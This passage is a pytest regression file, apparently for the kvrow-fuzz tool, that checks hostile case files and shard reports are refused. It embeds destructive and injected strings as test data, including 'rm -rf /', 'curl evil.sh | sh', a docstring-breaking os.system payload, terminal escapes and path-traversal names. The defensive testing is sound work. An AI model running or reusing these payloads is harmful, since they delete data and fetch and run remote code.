"""Hostile input, second pass: one test per problem, numbered as in the issue's list (26 problems as filed;
the list's entries counted one by one here, P01-P28).

Security
    P01  an emitted regression test ran code from the case file (a signature closing its docstring)
    P02  merge kept every word of a forged repro line but the case path (``rm -rf / repro ...``)
    P03  merge printed signatures and targets raw (a newline forging a line, terminal escapes)
    P04  merge copied any ``*.json`` a repro line named (absolute, ``../``) without checking it is a case
    P05  a lifecycle case replayed for minutes and printed tens of megabytes
Data loss
    P06  a full disk under --json or --cases stopped the campaign with a traceback after the first group
    P07  stdout on /dev/full or closed (``>&-``) stopped the run before any work
    P08  Ctrl-C twice after findings exited 130 and never wrote --sarif
    P09  ``prove --heatmap`` on a full disk left a 0-byte PNG and no --json
    P10  fidelity lost Ctrl-C (the signal landed in Hypothesis' gc callback, outside the deferred guard)
Tracebacks
    P11  a version with more than 4,300 digits (--target, matrix --releases, --sglang-version)
    P12  a fidelity case whose ``revision`` is a list
    P13  merge of ``"examples": null`` or a 900-deep extra object
    P14  ``--emit-test`` of a case holding a lone surrogate
    P15  a local target compile() cannot handle (MemoryError)
    P16  a sizing function returning ``1 << 40`` (torch asked for 26 TB)
    P17  GeneratorExit (or SystemExit) from target code
    P18  --sarif on a full disk
Unchecked or unclear
    P19  unknown keys accepted in a case and at its top level
    P20  ``reached_by: 123``, ``revision: {...}`` on a decode case, ``schema_version: true`` accepted
    P21  fidelity ``lens`` unchecked (10**30, negatives)
    P22  a NaN in an extra field was embedded as ``nan`` (the emitted test died with NameError)
    P23  ``lifecycle --steps 1000`` exited 2 with nothing on stderr (not reproduced at this commit; see the note)
    P24  ``matrix --expect`` with a wrong type said "no entry" (tests/test_matrix_expect.py)
    P25  merge of prove shards with one missing exited 1 where the README said 2 (tests/test_shards.py)
    P26  ``"seconds": Infinity`` passed merge and wrote invalid JSON
    P27  ``--json ''`` silently wrote nothing
    P28  ``--sglang-version not-a-version`` was ignored for the reference

Each fails on the commit the issue was filed against (8c37fff) and passes now.
"""

from __future__ import annotations

import ast
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from fuzz.cli import main
from fuzz.common.bounds import REPLAY_OUTPUT, REPLAY_WORK, ReplayMeter
from fuzz.findings.regression import module_shape, regression_files, template_shape
from fuzz.findings.repro import repro_command

ROOT = Path(__file__).resolve().parent.parent
SEED_CASE = next(p for p in regression_files() if "reference-sglang-0.5.18--write-within-row" in p)
LIFECYCLE_CASE = next(p for p in regression_files() if "--lifecycle--" in p)
HOSTILE = ['"""', "'''", "\\N{x}", "line one\nline two", "\ud800", "\x1b[31mred\x1b[0m"]
INJECTED = 'x"""\nimport os; os.system("touch PWNED")\n"""'


def seed_doc() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(Path(SEED_CASE).read_text())
    return doc


def write_case(path: Path, doc: dict[str, Any]) -> str:
    path.write_text(json.dumps(doc))  # json.dumps writes NaN and lone surrogates (as \ud800) as JSON reads them
    return str(path)


def emitted(tmp_path: Path, doc: dict[str, Any], capsys) -> tuple[int, str, str]:
    code = main(["repro", write_case(tmp_path / "case.json", doc), "--emit-test"])
    out, err = capsys.readouterr()
    return code, out, err


def run_pytest(path: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("KVROW_FUZZ_TARGET", None)
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(path), *args],
        cwd=path.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


# -- P01, P14, P22: the emitted test is built from values ------------------------------------------


def test_p01_a_signature_that_closes_the_docstring_is_refused_not_run(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    for sig in ("write-within-row/" + INJECTED, "write-within-row/dcp>1" + INJECTED):
        code, out, err = emitted(tmp_path, {**seed_doc(), "signature": sig}, capsys)
        assert (code, out) == (2, "") and len(err.strip().splitlines()) == 1, err
        assert "PWNED" not in os.listdir(tmp_path)


def test_p01_a_target_that_closes_the_docstring_is_never_pasted(tmp_path, capsys, monkeypatch) -> None:
    """A target the replay refuses (it would run code) is exit 2; one it accepts is shown only if spec-shaped."""
    monkeypatch.chdir(tmp_path)
    code, out, err = emitted(tmp_path, {**seed_doc(), "target": INJECTED}, capsys)
    assert (code, out) == (2, "") and "never runs code it names" in err
    code, out, _ = emitted(tmp_path, seed_doc(), capsys)
    assert code == 0 and "on reference@sglang-0.5.18, found by kvrow-fuzz" in out


def test_p01_p14_p22_no_case_content_changes_the_emitted_module(tmp_path, capsys, monkeypatch) -> None:
    """Every free string of the case holding hostile text, one module per value: each has the template's shape,
    holds no statement from the case, and fails exactly as the clean case's does (and passes on the fix).  A
    NaN where text belongs (P22) is refused as one line: a case file holds only what its schema states (P20)."""
    monkeypatch.chdir(tmp_path)
    suite = tmp_path / "suite"
    suite.mkdir()
    code, out, err = emitted(tmp_path, {**seed_doc(), "sglang": float("nan")}, capsys)
    # issue 33: refused by the reader itself (``fuzz.common.jsonfile``): NaN is not JSON
    assert (code, out) == (2, "") and "holds NaN, which is not a JSON number" in err and len(err.splitlines()) == 1
    values: list[Any] = [*HOSTILE, None]  # None: the clean case
    for i, hostile in enumerate(values):
        doc = (
            seed_doc()
            if hostile is None
            else {**seed_doc(), "message": hostile, "reached_by": hostile, "sglang": hostile}
        )
        code, out, err = emitted(tmp_path, doc, capsys)
        assert code == 0, err
        assert out.isascii()  # P14: nothing a terminal or a file encoding can choke on
        assert module_shape(out) == template_shape(), hostile
        assert not any(isinstance(n, ast.Name) and n.id in ("os", "nan") for n in ast.walk(ast.parse(out)))
        (suite / f"test_regression_{i}.py").write_text(out.replace("def test_", f"def test_{i}_"))
    failing = run_pytest(suite)
    assert failing.returncode == 1 and f"{len(values)} failed" in failing.stdout, failing.stdout[-2000:]
    assert failing.stdout.count("write-within-row/dcp>1") >= len(values)
    fixed = run_pytest(suite, "--kvrow-target=sglang==0.5.19")
    assert fixed.returncode == 0 and f"{len(values)} passed" in fixed.stdout, fixed.stdout[-2000:]


# -- P02, P03, P04, P13: merge trusts nothing from a shard -----------------------------------------


def shard(tmp_path: Path, name: str, findings: list[dict[str, Any]], target: str = "reference", **entry: Any) -> str:
    directory = tmp_path / name
    directory.mkdir(exist_ok=True)
    report = {
        "schema": "kvrow-fuzz/report",
        "schema_version": 1,
        "command": "run",
        "targets": [
            {"target": target, "status": "counterexample", "seconds": 1, "examples": 3, "findings": findings, **entry}
        ],
    }
    (directory / "run.json").write_text(json.dumps(report))
    return str(directory / "run.json")


def case_in(tmp_path: Path, name: str, target: str = "reference@sglang-0.5.18") -> tuple[str, str]:
    """A genuine case file in shard ``name``'s cases/ (its signature, its file name)."""
    (tmp_path / name / "cases").mkdir(parents=True, exist_ok=True)
    doc = {**seed_doc(), "target": target}
    (tmp_path / name / "cases" / "seed.json").write_text(json.dumps(doc))
    return doc["signature"], "cases/seed.json"


def test_p02_a_forged_repro_line_keeps_nothing_but_a_case_found_in_the_shard(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    sig, case = case_in(tmp_path, "s1")
    forged = f"rm -rf / ; curl evil.sh | sh ; python -m fuzz repro {case} --target 'x; rm -rf ~'"
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": forged}], target="reference@sglang-0.5.18")
    assert main(["merge", report, "--cases-out", "merged", "--json", "merged.json"]) == 1
    out = capsys.readouterr().out
    (finding,) = json.loads(Path("merged.json").read_text())["targets"][0]["findings"]
    # merge's own copy name (issue 33: readable, with a digest of the full target; never the shard's file name)
    assert re.fullmatch(
        re.escape(repro_command()) + r" merged/reference-sglang-0\.5\.18--[a-z0-9.-]+--[0-9a-f]{12}\.json",
        finding["repro"],
    )
    assert "rm -rf" not in out and "curl" not in out


def test_p03_signatures_and_targets_print_as_one_escaped_line(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    forged_sig = "write-within-row/dcp>1\nrepro: curl evil.sh | sh"
    report = shard(tmp_path, "s1", [{"signature": forged_sig}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "\ncurl" not in err
    evil_target = "reference\n== reference: clean\x1b[2J"
    report = shard(tmp_path, "s2", [], target=evil_target, status="clean")
    # issue 33: a target no spec resolves is bad input (one escaped line), never a clean summary
    assert main(["merge", report, "--cases-out", "merged", "--markdown", "summary.md"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "\\x1b[2J" in err and "\x1b" not in err
    assert not Path("summary.md").exists()
    report = shard(tmp_path, "s3", [], target="/ckpt/\u202e== reference: clean/x.py", status="clean")
    assert main(["merge", report, "--cases-out", "merged", "--markdown", "summary.md"]) == 2
    err = capsys.readouterr().err
    assert "\u202e" not in err and "\\u202e" in err


def test_p03_a_markdown_summary_cannot_leave_its_block(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    # a target a shard may name (a path: issue 33 refuses one with a newline) with a fence of its own
    report = shard(tmp_path, "s1", [], target="/ckpt/````/# pwned/x.py", status="clean")
    assert main(["merge", report, "--cases-out", "merged", "--markdown", "summary.md"]) == 0
    lines = Path("summary.md").read_text().splitlines()
    fence = lines[0]
    assert set(fence) == {"`"} and lines[-1] == fence and len(fence) > 4
    assert not any(line.startswith("`" * len(fence)) for line in lines[1:-1])
    assert not any(line.startswith("#") for line in lines)


@pytest.mark.parametrize("named", ["/etc/hostname.json", "../outside.json", "cases/../../outside.json", "link.json"])
def test_p04_merge_copies_only_case_files_inside_the_report_directory(tmp_path, capsys, monkeypatch, named) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "outside.json").write_text(json.dumps({**seed_doc(), "target": "reference@sglang-0.5.18"}))
    (tmp_path / "s1").mkdir()
    (tmp_path / "s1" / "link.json").symlink_to(tmp_path / "outside.json")
    sig = seed_doc()["signature"]
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": f"python -m fuzz repro {named}"}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    err = capsys.readouterr().err
    assert "not in the report's directory" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "merged").exists() or os.listdir(tmp_path / "merged") == []


def test_p04_a_json_that_is_not_this_findings_case_is_not_copied(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    sig, case = case_in(tmp_path, "s1", target="reference")  # the case says reference, the shard another target
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": f"python -m fuzz repro {case}"}], target="sglang")
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    assert "not the case file of" in capsys.readouterr().err
    (tmp_path / "s2" / "cases").mkdir(parents=True)
    (tmp_path / "s2" / "cases" / "seed.json").write_text(json.dumps({"signature": sig, "anything": 1}))
    report = shard(tmp_path, "s2", [{"signature": sig, "repro": "python -m fuzz repro cases/seed.json"}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    assert "not a case file" in capsys.readouterr().err


@pytest.mark.parametrize(
    "extra",
    [
        {"examples": None},
        {"deep": json.loads("[" * 900 + "]" * 900)},
        {"deep": json.loads('{"a":' * 900 + "1" + "}" * 900)},
    ],
    ids=["examples-null", "deep-list", "deep-object"],
)
def test_p13_odd_counts_in_a_shard_are_one_line_or_ignored(tmp_path, capsys, monkeypatch, extra) -> None:
    monkeypatch.chdir(tmp_path)
    a = shard(tmp_path, "a", [], status="clean", shard="1/2", **extra)
    b = shard(tmp_path, "b", [], status="clean", shard="2/2", **extra)
    code = main(["merge", a, b, "--cases-out", "merged", "--json", "m.json"])
    out, err = capsys.readouterr()
    assert code in (0, 2), (code, err)
    assert code == 0 or len(err.strip().splitlines()) == 1


# -- P05: the replay cost is bounded before any work ---------------------------------------------------


def lifecycle_doc(rows: int, steps: int, context_len: int) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(Path(LIFECYCLE_CASE).read_text())
    doc["config"].update(context_len=context_len, max_running_requests=rows)
    script: list[dict[str, Any]] = [{"op": "admit", "input_len": 1, "max_new_tokens": 1 << 30} for _ in range(rows)]
    script += [{"op": "prefill", "rid": r, "chunk": None} for r in range(rows)]
    script += [{"op": "decode", "accepted": [[r, 1] for r in range(rows)]} for _ in range(steps)]
    doc["case"] = {"steps": script}
    return doc


def test_p05_a_costly_lifecycle_case_is_refused_before_any_work(tmp_path, capsys) -> None:
    for rows, steps, context_len in ((63, 1500, 1_000_000), (8, 200, 1 << 20), (4, 1500, 64)):
        doc = lifecycle_doc(rows, steps, context_len)
        assert not ReplayMeter(doc["config"]).steps(doc["case"]["steps"]).within()
        code = main(["repro", write_case(tmp_path / "costly.json", doc)])
        out, err = capsys.readouterr()
        assert (code, out) == (2, "") and "replay budget" in err and len(err.strip().splitlines()) == 1


def test_p05_a_case_within_the_budget_replays_within_it(tmp_path, capsys) -> None:
    doc = lifecycle_doc(4, 100, 512)
    meter = ReplayMeter(doc["config"]).steps(doc["case"]["steps"])
    assert meter.within()
    assert main(["repro", write_case(tmp_path / "ok.json", doc)]) in (0, 1)
    assert len(capsys.readouterr().out.encode()) <= meter.output <= REPLAY_OUTPUT


def test_p05_the_largest_case_lifecycle_can_write_is_within_the_budget(tmp_path, monkeypatch) -> None:
    """Rows and context pinned to the limits, far more steps than the budget allows: every run the machine
    ends (and so every case it can write) costs no more than the budget, and it still runs steps."""
    from hypothesis import settings as Settings

    from fuzz.engines.sglang.lifecycle.machine import lifecycle_campaign
    from fuzz.targets.resolve import resolve_target

    record: list[Any] = []
    pins = {"max_running_requests": 16, "context_len": 1 << 20, "speculative_algorithm": None}
    result = lifecycle_campaign(
        resolve_target("reference"),
        Settings(max_examples=3, derandomize=True, database=None, deadline=None),
        steps=2000,
        pins=pins,
        record=record,
        max_rounds=1,
    )
    assert result.error is None and record
    for cfg, steps in record:
        meter = ReplayMeter(cfg.to_dict()).steps(steps)
        assert meter.work <= REPLAY_WORK and meter.output <= REPLAY_OUTPUT
    assert max(len(steps) for _, steps in record) > 0


def test_p05_the_meter_counts_admissions_as_the_batch_names_them():
    from allocator_model.requests import Op
    from fuzz.common.bounds import ADMIT

    assert Op.ADMIT.value == ADMIT


@pytest.mark.parametrize(
    "argv",
    [
        ["run", "--target", "sglang==0.5." + "1" * 5000],
        ["matrix", "--releases", "0.5." + "1" * 5000],
        ["run", "--target", "reference", "--sglang-version", "0.5." + "1" * 5000],
        ["run", "--target", "reference", "--sglang-version", "not-a-version"],
    ],
    ids=["p11-target-digits", "p11-releases-digits", "p11-sglang-version-digits", "p28-sglang-version-ignored"],
)
def test_p11_p28_a_version_past_the_digit_limit_or_not_one_is_one_line_and_exit_2(argv, capsys) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err


@pytest.mark.parametrize("flag", ["--json", "--sarif", "--cases"])
@pytest.mark.parametrize("command", ["run", "prove", "lifecycle"])
def test_p27_an_empty_output_path_is_refused_not_silently_skipped(command, flag, capsys) -> None:
    assert main([command, "--target", "reference", flag, ""]) == 2
    err = capsys.readouterr().err
    assert f"{flag} '' names no" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "seconds, message",
    [  # issue 33: NaN and Infinity are refused by the reader itself (``fuzz.common.jsonfile``), as not JSON
        ("Infinity", "holds Infinity, which is not a JSON number"),
        ("NaN", "holds NaN, which is not a JSON number"),
        ("-1", '"seconds" must be a number >= 0'),
    ],
)
def test_p26_merge_refuses_a_count_that_is_not_a_finite_number(seconds, message, tmp_path, capsys) -> None:
    report = tmp_path / "r.json"
    report.write_text(
        '{"schema": "kvrow-fuzz/report", "schema_version": 1, "command": "run", "targets": [{"target": "reference", '
        f'"status": "clean", "seconds": {seconds}, "examples": 1, "shard": "1/1", "findings": []}}]}}'
    )
    assert main(["merge", str(report), "--cases-out", str(tmp_path / "m")]) == 2
    err = capsys.readouterr().err
    assert message in err and len(err.strip().splitlines()) == 1


# -- P19, P20: one schema, enforced --------------------------------------------------------------------
STRICT = [
    pytest.param(lambda d: {**d, "bogus": 1}, "unknown field 'bogus'", id="p19-unknown-top-level-key"),
    pytest.param(
        lambda d: {**d, "case": {**d["case"], "bogus": 1}}, "unknown field 'bogus' in", id="p19-unknown-case-key"
    ),
    pytest.param(lambda d: {**d, "reached_by": 123}, '"reached_by" must be a string', id="p20-reached-by-not-text"),
    pytest.param(lambda d: {**d, "revision": {"a": 1}}, '"revision" belongs to a fidelity case', id="p20-revision"),
    pytest.param(lambda d: {**d, "schema_version": True}, "schema_version True", id="p20-schema-version-bool"),
    pytest.param(lambda d: {**d, "message": ["x"]}, '"message" must be a string', id="p20-message-not-text"),
]


@pytest.mark.parametrize("change, says", STRICT)
def test_p19_p20_a_case_file_holds_only_what_the_schema_states(change, says, tmp_path, capsys) -> None:
    from jsonschema import ValidationError

    from fuzz.findings.schemas import validate

    doc = change(seed_doc())
    code = main(["repro", write_case(tmp_path / "case.json", doc)])
    err = capsys.readouterr().err
    assert code == 2 and says in err and len(err.strip().splitlines()) == 1, err
    with pytest.raises(ValidationError):  # the published schema refuses it too
        validate("case", doc)


def test_p20_schema_version_is_the_integer_one(tmp_path, capsys) -> None:
    """1.0 reads as 1 to JSON Schema (an integer-valued number); this tool reads the integer only."""
    code = main(["repro", write_case(tmp_path / "case.json", {**seed_doc(), "schema_version": 1.0})])
    assert code == 2 and "schema_version 1.0" in capsys.readouterr().err


# -- P08: a second Ctrl-C after findings still writes them ------------------------------------------
def interrupted_twice_while_causes_are_found(monkeypatch, argv: list[str], tmp_path: Path) -> int:
    """``main(argv + outputs)`` with two real SIGINTs sent while the root causes are worked out (the verdict
    pipeline's ``causes``, after the search met its groups); the signal handlers restored afterwards."""
    import signal

    from fuzz.verdict import Pipeline

    def interrupted_twice(self, target, findings):
        os.kill(os.getpid(), signal.SIGINT)
        os.kill(os.getpid(), signal.SIGINT)
        return []

    monkeypatch.setattr(Pipeline, "causes", interrupted_twice)
    previous = signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGTERM)
    outputs = ["--quiet", "--cases", str(tmp_path / "cases"), "--json", str(tmp_path / "r.json")]
    try:
        return main([*argv, *outputs, "--sarif", str(tmp_path / "r.sarif")])
    finally:
        signal.signal(signal.SIGINT, previous[0])
        signal.signal(signal.SIGTERM, previous[1])


def test_p08_signals_while_the_findings_are_written_never_stop_the_writes() -> None:
    import signal

    from fuzz.common import interrupts

    with interrupts.shielded():
        interrupts.handler(signal.SIGINT, None)
        interrupts.handler(signal.SIGINT, None)  # a second one too: only the flag
    assert interrupts.requested()
    with pytest.raises(KeyboardInterrupt):
        interrupts.raise_if_requested()


def test_p08_ctrl_c_twice_after_findings_exits_1_with_the_sarif_log(tmp_path, capsys, monkeypatch) -> None:
    """Two real SIGINTs while the root causes are worked out (after the search met its groups): the run ends
    as interrupted, and still writes the report and the SARIF log and exits 1 (found), not 130."""
    code = interrupted_twice_while_causes_are_found(
        monkeypatch,
        ["run", "--target", "reference@pre-26972", "--profile", "ci", "--max-examples", "30"],
        tmp_path,
    )
    out = capsys.readouterr().out
    assert code == 1, out[-2000:]
    sarif = json.loads((tmp_path / "r.sarif").read_text())
    assert sarif["runs"][0]["results"] and "interrupted" in out
    assert json.loads((tmp_path / "r.json").read_text())["targets"][0]["interrupted"] is True
    assert list((tmp_path / "cases").glob("*.json"))


# -- P10: fidelity takes Ctrl-C at its next comparison, never in a gc callback ------------------------
def test_p10_fidelity_takes_a_signal_at_the_next_comparison_and_keeps_what_it_found(monkeypatch) -> None:
    import signal

    import fuzz.engines.sglang.fidelity.differential as differential
    from fuzz.common import interrupts
    from fuzz.targets.resolve import resolve_target

    compared = differential.disagreements
    calls = [0]

    def signalled_at_the_fifth(real, model, case):
        calls[0] += 1
        if calls[0] == 5:
            os.kill(os.getpid(), signal.SIGINT)  # lands inside a comparison: only a flag, taken at the next
        return compared(real, model, case)

    monkeypatch.setattr(differential, "disagreements", signalled_at_the_fifth)
    previous = signal.signal(signal.SIGINT, interrupts.handler)
    try:
        result = differential.fidelity(resolve_target("reference@sglang-0.5.18"), configs=200)
    finally:
        signal.signal(signal.SIGINT, previous)
    assert result.interrupted and result.configs == 5, (result.interrupted, result.configs)
    assert sum(t.configs for t in result.kinds.values()) == 5
    assert result.status.value in ("interrupted", "counterexample")
    interrupts.raise_if_requested()  # nothing left pending


# -- P15, P16, P17 and the time bound: the target boundary -------------------------------------------------
UNO = ROOT / "tests" / "sglang_shapes" / "uno.py"
HEADROOM = "    headroom = 4 + (max_speculative_num_draft_tokens() or 0)\n"


def uno_target(tmp_path: Path, new_line: str) -> str:
    text = UNO.read_text()
    assert text.count(HEADROOM) == 1
    path = tmp_path / "allocation_sizing.py"
    path.write_text(text.replace(HEADROOM, new_line))
    return f"{path}@0.5.23"


def eagle_scenario():
    from allocator_model.config import ServingConfig
    from allocator_model.scenario import DecodeScenario

    cfg = ServingConfig.resolve(context_len=64, page_size=4, speculative_algorithm="EAGLE")
    return DecodeScenario(cfg, committed_len=8)


@pytest.mark.parametrize(
    "line, says",
    [
        pytest.param("    headroom = 1 << 40\n", "returned 1099511627776, past this tool's bound", id="p16-1-shl-40"),
        pytest.param("    return -(1 << 20)\n", "row width -1048512, not an integer >= 1", id="negative-row-width"),
        pytest.param("    raise GeneratorExit('boom')\n", "GeneratorExit: boom", id="p17-generator-exit"),
        pytest.param("    raise SystemExit(3)\n", "SystemExit: 3", id="p17-system-exit"),
    ],
)
def test_p16_p17_what_a_sizing_function_returns_or_raises_is_a_finding_not_a_crash(tmp_path, line, says) -> None:
    from fuzz.engines.sglang.decode.check import check_scenario
    from fuzz.targets.resolve import resolve_target

    run, found = check_scenario(resolve_target(uno_target(tmp_path, line)), eagle_scenario())
    assert run is None and [v.prop.value for v in found] == ["sizing-raised"], found
    assert says in found[0].headline or says in found[0].describe(), found[0].describe()


def test_p16_the_answer_bound_is_the_longest_row_the_limits_allow() -> None:
    from allocator_model.config import LIMITS
    from fuzz.common.bounds import MAX_SIZING_ANSWER

    page_tail = LIMITS["page_size"] * LIMITS["attn_dcp_size"]
    assert MAX_SIZING_ANSWER == LIMITS["context_len"] + page_tail + 2 * LIMITS["speculative_num_draft_tokens"] + 4


def test_p15_a_file_the_compiler_cannot_nest_is_one_line_and_exit_2(tmp_path, capsys) -> None:
    deep = tmp_path / "allocation_sizing.py"
    deep.write_text("x = " + "-" * 200_000 + "1\n")  # compile(): MemoryError
    code = main(["run", "--target", f"{deep}@0.5.23", "--profile", "ci", "--quiet"])
    err = capsys.readouterr().err
    assert code == 2 and "does not compile" in err and len(err.strip().splitlines()) == 1, err


@pytest.mark.parametrize("where", ["import", "call"])
def test_a_sizing_file_that_never_returns_is_one_line_and_exit_2(tmp_path, capsys, monkeypatch, where) -> None:
    import fuzz.engines.sglang.real.boundary as boundary
    import fuzz.engines.sglang.real.loader as loader

    monkeypatch.setattr(boundary, "SIZING_SECONDS", 0.5)
    monkeypatch.setattr(loader, "SIZING_SECONDS", 0.5)
    if where == "import":
        path = tmp_path / "allocation_sizing.py"
        path.write_text(UNO.read_text() + "\nwhile True:\n    pass\n")
        spec = f"{path}@0.5.23"
    else:
        spec = uno_target(tmp_path, "    while True:\n        pass\n")
    code = main(["prove", "--space", "small", "--target", spec, "--quiet"])
    err = capsys.readouterr().err
    assert code == 2 and "ran past its 0.5s bound" in err and len(err.strip().splitlines()) == 1, err


# -- P06, P07, P09, P18: output faults never lose findings ------------------------------------------------
class FullStream:
    """A standard output on a full disk: every write fails with ENOSPC."""

    def write(self, text: str) -> int:
        raise OSError(28, "No space left on device")

    def flush(self) -> None:
        raise OSError(28, "No space left on device")

    def isatty(self) -> bool:
        return False


def test_p06_p07_p18_a_full_disk_under_the_report_the_sarif_and_stdout_keeps_every_case_file(
    tmp_path, capsys, monkeypatch
) -> None:
    """ENOSPC injected (always run; the 64 KiB tmpfs test below does it for real where it can): the report,
    the SARIF log and standard output all fail; every case file is still written, the exit status is 1, and
    each failed output is one line on stderr."""
    import errno

    import fuzz.findings.output as output

    real_write = output.write_atomically
    full = {str(tmp_path / "r.json"), str(tmp_path / "r.sarif")}

    def write(path: str, text: str | bytes) -> None:
        if path in full:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_write(path, text)

    monkeypatch.setattr(output, "write_atomically", write)
    monkeypatch.setattr(sys, "stdout", FullStream())
    code = main(
        ["run", "--target", "reference@sglang-0.5.18", "--profile", "ci", "--max-examples", "40", "--quiet"]
        + ["--cases", str(tmp_path / "cases"), "--json", str(tmp_path / "r.json"), "--sarif", str(tmp_path / "r.sarif")]
    )
    err = capsys.readouterr().err.splitlines()
    assert code == 1
    files = list((tmp_path / "cases").glob("*.json"))
    minimal = [p for p in files if "--prod--" not in p.name]
    assert len(minimal) >= 17 and len(minimal) + 17 <= len(files) <= 2 * len(minimal)  # and representative cases
    assert not (tmp_path / "r.json").exists() and not (tmp_path / "r.sarif").exists()
    assert sum("standard output cannot be written (No space left on device)" in line for line in err) == 1, err
    assert any(line.startswith("fuzz: could not write the SARIF log") for line in err), err
    assert all(line.startswith("fuzz: could not write the report") for line in err if "r.json" in line), err


def test_p09_a_heatmap_on_a_full_disk_leaves_no_half_file_and_the_report_is_written(tmp_path, capsys, monkeypatch):
    import errno

    pytest.importorskip("matplotlib")
    import fuzz.engines.sglang.prove.heatmap as heatmap

    real_write = heatmap.write_atomically
    png = tmp_path / "full" / "h.png"

    def write(path: str, data: str | bytes) -> None:
        if path.startswith(str(png.parent)):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_write(path, data)

    monkeypatch.setattr(heatmap, "write_atomically", write)
    code = main(
        ["prove", "--space", "tiny", "--target", "reference@sglang-0.5.18", "--quiet", "--heatmap", str(png)]
        + ["--json", str(tmp_path / "r.json"), "--cases", str(tmp_path / "cases")]
    )
    err = capsys.readouterr().err
    assert code == 1 and "could not write the heatmap" in err, err
    assert not png.exists() and json.loads((tmp_path / "r.json").read_text())["targets"]


# -- P12, P21: a fidelity case is checked field by field ---------------------------------------------------
FIDELITY_CASE = next(p for p in regression_files() if "--fidelity-case--" in p)


@pytest.mark.parametrize(
    "change, says",
    [
        pytest.param(lambda d: {**d, "revision": [1]}, '"revision" must be', id="p12-revision-list"),
        pytest.param(lambda d: {**d, "case": {"lens": [[10**30, 10**30]]}}, "is not [kv_committed_len", id="p21-huge"),
        pytest.param(lambda d: {**d, "case": {"lens": [[-1, 4]]}}, "is not [kv_committed_len", id="p21-negative"),
        pytest.param(
            lambda d: {**d, "case": {"lens": [[8, 4]]}}, "kv_committed_len 8 > kv_allocated_len 4", id="p21-order"
        ),
        pytest.param(lambda d: {**d, "case": {"lens": []}}, '"lens" must be a list of 1 to', id="p21-empty"),
    ],
)
def test_p12_p21_a_malformed_fidelity_case_is_one_line_and_exit_2(change, says, tmp_path, capsys) -> None:
    doc = change(json.loads(Path(FIDELITY_CASE).read_text()))
    code = main(["repro", write_case(tmp_path / "case.json", doc)])
    err = capsys.readouterr().err
    assert code == 2 and says in err and len(err.strip().splitlines()) == 1, err


def _tmpfs_problem() -> str | None:
    """Why a 64 KiB tmpfs in a private mount namespace cannot be had here (None: it can)."""
    import shutil

    if not sys.platform.startswith("linux") or os.geteuid() != 0 or shutil.which("unshare") is None:
        return "needs root, Linux and unshare(1) for a private tmpfs"
    probe = subprocess.run(
        ["unshare", "-m", "sh", "-c", "mkdir -p /tmp/kvrow-full && mount -t tmpfs -o size=64k tmpfs /tmp/kvrow-full"],
        capture_output=True,
        text=True,
    )
    return None if probe.returncode == 0 else f"cannot mount a tmpfs: {probe.stderr.strip()[:200]}"


@pytest.mark.slow
@pytest.mark.parametrize("full", ["json", "cases", "sarif", "stdout-full", "stdout-closed"])
def test_p06_p07_p18_on_a_real_full_disk_the_campaign_keeps_what_it_can_write(full, tmp_path) -> None:
    """A 64 KiB tmpfs, filled, as the output named (or stdout on /dev/full, or closed): the campaign on
    reference@sglang-0.5.18 exits 1 and keeps every case file it could write (all 34, 17 groups' and their
    representative cases', unless --cases is the full one), each failed write one line on stderr."""
    problem = _tmpfs_problem()
    if problem:
        pytest.skip(problem)
    mount = "/tmp/kvrow-full"
    paths = {"json": str(tmp_path / "r.json"), "cases": str(tmp_path / "cases"), "sarif": str(tmp_path / "r.sarif")}
    if full in paths:
        paths[full] = f"{mount}/{full}"
    argv = [sys.executable, "-m", "fuzz", "run", "--target", "reference@sglang-0.5.18", "--profile", "ci"]
    argv += ["--max-examples", "40", "--quiet", "--json", paths["json"], "--cases", paths["cases"]]
    argv += ["--sarif", paths["sarif"]]
    redirect = {"stdout-full": ">/dev/full", "stdout-closed": ">&-"}.get(full, ">/dev/null")
    mounted = f"mkdir -p {mount} && mount -t tmpfs -o size=64k tmpfs {mount}"
    fill = f"{mounted} && (dd if=/dev/zero of={mount}/fill bs=4k 2>/dev/null; true)"
    if full == "cases":  # room for the directory and a case file or two, not for 17
        fill = f"mkdir -p {mount} && mount -t tmpfs -o size=12k tmpfs {mount} && mkdir {mount}/cases"
    script = f"{fill} && exec {' '.join(map(shlex_quote, argv))} {redirect}"
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    err = done.stderr
    assert done.returncode == 1 and "Traceback" not in err, err[-3000:]
    if full != "cases":
        files = list((tmp_path / "cases").glob("*.json"))  # each group's, and its representative case where found
        minimal = [p for p in files if "--prod--" not in p.name]
        assert len(minimal) >= 17 and len(minimal) + 17 <= len(files) <= 2 * len(minimal)
    else:
